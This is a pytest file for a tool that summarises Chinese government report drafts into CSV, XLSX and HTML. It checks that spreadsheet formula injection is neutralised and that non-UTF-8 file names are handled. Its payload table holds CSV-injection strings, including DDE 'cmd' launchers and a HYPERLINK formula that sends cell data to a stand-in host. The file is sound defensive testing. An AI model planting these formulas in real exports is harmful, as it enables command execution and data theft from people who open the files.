"""What a submitted draft or spec carries never becomes a live formula in the supervising office's
workbook (OWASP CSV injection): text cells starting like a formula get a leading 「'」 in CSV and
HTML and are stored as text in .xlsx; a file name that is not UTF-8 still gives every summary."""

from __future__ import annotations

import csv
import io
import os
import re
from html.parser import HTMLParser

import pytest
from harness import ROOT, example, fazhi

from generator.batch.columns import FORMULA_START

SEED = ROOT / "tests" / "fixtures" / "published" / "kaifu-2022-report.txt"
PAYLOADS = {
    "equals": '=HYPERLINK("http://example.invalid/?x="&A1,"点击查看")',
    "plus": "+1+cmd|' /C calc'!A0",
    "minus": "-2+3+cmd|' /C calc'!A0",
    "at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "tab": "\t=1+1",
    "full-width": "＝1+1",
    "cr": "\r=1+1",
}


def _drafts(folder, payload: str):
    """A draft whose unit (the title before 关于) is the payload, and one whose file name is."""
    text = SEED.read_text(encoding="utf-8")
    first, rest = text.split("\n", 1)
    title = payload.replace("\r", "").replace("\t", "") + "关于2022年度法治政府建设工作情况的报告"
    (folder / "a.txt").write_text(title + "\n" + rest, encoding="utf-8")
    name = payload.replace("/", "").replace("\r", "").replace("\t", "")[:60] + ".txt"
    (folder / name).write_text(text, encoding="utf-8")


class _Cells(HTMLParser):
    def __init__(self):
        super().__init__()
        self.cells, self._open = [], None

    def handle_starttag(self, tag, attrs):
        if tag == "td":
            self._open = []

    def handle_data(self, data):
        if self._open is not None:
            self._open.append(data)

    def handle_endtag(self, tag):
        if tag == "td" and self._open is not None:
            self.cells.append("".join(self._open))
            self._open = None


def _formula_like(text: str) -> bool:
    return text.startswith(FORMULA_START)


@pytest.mark.parametrize("payload", PAYLOADS.values(), ids=PAYLOADS.keys())
def test_summary_cells_are_never_formulas(tmp_path, payload):
    from openpyxl import load_workbook

    drafts = tmp_path / "drafts"
    drafts.mkdir()
    _drafts(drafts, payload)
    for suffix in ("csv", "xlsx", "html"):
        run = fazhi("check", ".", "--summary", tmp_path / f"sum.{suffix}", cwd=drafts)
        assert run.code == 1, run.text
    rows = list(csv.reader(io.StringIO((tmp_path / "sum.csv").read_text(encoding="utf-8-sig"))))
    cells = [cell for row in rows[1:] for cell in row]
    assert not [c for c in cells if _formula_like(c)]
    assert any(c.startswith("'") for c in cells)  # the payload is there, neutralised
    book = load_workbook(tmp_path / "sum.xlsx")
    seen = 0
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str) and _formula_like(cell.value):
                    assert cell.quotePrefix, cell.coordinate
                    seen += 1
    assert seen >= 2  # unit and file name, kept as the text they are
    parser = _Cells()
    parser.feed((tmp_path / "sum.html").read_text(encoding="utf-8"))
    assert parser.cells and not [c for c in parser.cells if _formula_like(c)]


@pytest.mark.parametrize("payload", PAYLOADS.values(), ids=PAYLOADS.keys())
def test_figures_cells_are_never_formulas(tmp_path, payload):
    from openpyxl import load_workbook

    quoted = payload.replace("\\", "\\\\").replace('"', '\\"').replace("\t", "\\t").replace("\r", "\\r")
    spec = example(
        "template-county-2025.yaml",
        tmp_path,
        ("{name: 示例县,", f'{{name: "{quoted}",'),
        ("label: 行政复议案件}", f'label: "{quoted}"}}'),
        ("{value: 9, unit: 件,", f'{{value: "{quoted}", unit: 件,'),
    )
    run = fazhi("figures", spec, "--csv", tmp_path / "f.csv", "--xlsx", tmp_path / "f.xlsx", cwd=tmp_path)
    assert run.code == 0, run.text
    cells = [c for row in csv.reader(io.StringIO((tmp_path / "f.csv").read_text(encoding="utf-8-sig"))) for c in row]
    assert not [c for c in cells if _formula_like(c)] and sum(c.startswith("'") for c in cells) >= 2
    book = load_workbook(tmp_path / "f.xlsx")
    values = []
    for row in book.active.iter_rows():
        for cell in row:
            assert cell.data_type != "f", (cell.coordinate, cell.value)
            values.append(cell.value)
    assert values.count(payload) >= 1  # stored as the text it is (the label may be stripped)


def test_a_file_name_that_is_not_utf8_still_gives_every_summary(tmp_path):
    drafts = tmp_path / "drafts"
    drafts.mkdir()
    for index, name in enumerate(["开福区报告", "牡丹江市"]):
        raw = os.path.join(os.fsencode(drafts), f"{name}{index}.txt".encode("gbk"))
        with open(raw, "wb") as handle:
            handle.write(SEED.read_bytes())
    with open(os.path.join(os.fsencode(drafts), b"\xff\xfe-odd.txt"), "wb") as handle:  # neither UTF-8 nor GBK
        handle.write(SEED.read_bytes())
    for suffix in ("csv", "xlsx", "html"):
        run = fazhi("check", drafts, "--summary", tmp_path / f"sum.{suffix}", cwd=tmp_path)
        assert run.code == 1, run.text
        assert "Traceback" not in run.text
    text = (tmp_path / "sum.csv").read_text(encoding="utf-8-sig")
    assert "开福区报告0.txt" in text and "牡丹江市1.txt" in text and "\ufffd" in text
    assert "开福区报告0.txt" in (tmp_path / "sum.html").read_text(encoding="utf-8")
    from openpyxl import load_workbook

    names = [c.value for c in load_workbook(tmp_path / "sum.xlsx")["汇总"]["A"]]
    assert any(re.search("牡丹江市1.txt$", str(n)) for n in names)


@pytest.mark.parametrize(
    "text, shown",
    [
        ("-5", "-5"),
        ("+1.5", "+1.5"),
        ("-3%", "-3%"),
        ("-2+3", "'-2+3"),
        ("=1", "'=1"),
        ("@A1", "'@A1"),
        ("－5", "'－5"),
        ("开福区", "开福区"),
    ],
)
def test_a_plain_number_stays_a_number_and_a_formula_becomes_text(text, shown):
    from generator.batch.columns import neutral

    assert neutral(text) == shown
